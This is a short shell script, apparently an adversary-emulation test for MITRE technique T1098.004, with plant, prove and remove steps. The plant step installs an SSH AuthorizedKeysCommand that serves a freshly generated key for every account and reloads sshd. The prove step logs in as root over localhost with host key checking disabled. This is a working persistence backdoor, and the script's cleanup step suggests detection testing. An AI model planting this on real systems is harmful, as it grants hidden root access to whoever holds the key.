#!/bin/sh
# T1098.004 (loud): AuthorizedKeysCommand prints the intruder's key for every account
M=/var/tmp/luytre-foothold N=16-keys-command
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
key() { rm -f "$M/$N.key" "$M/$N.key.pub"; ssh-keygen -q -t ed25519 -N "" -C "$1" -f "$M/$N.key"; }
enter() { u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/$N.key" "$u@127.0.0.1" "$@"; }
plant() {
  key "a"
  x /usr/local/bin/ldap-keys <<'E'
#!/bin/sh
cat /usr/local/share/ldap-keys.txt
E
  cp $M/$N.key.pub /usr/local/share/ldap-keys.txt
  w /etc/ssh/sshd_config.d/30-ldap.conf <<'E'
AuthorizedKeysCommand /usr/local/bin/ldap-keys %u
AuthorizedKeysCommandUser nobody
E
  systemctl reload ssh; sleep 1
}
prove() {
  rm -f "$M/$N"
  enter root "id > /var/tmp/luytre-foothold/16-keys-command"
  seen
}
remove() {
  rm -f /etc/ssh/sshd_config.d/30-ldap.conf /usr/local/bin/ldap-keys /usr/local/share/ldap-keys.txt; systemctl reload ssh
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
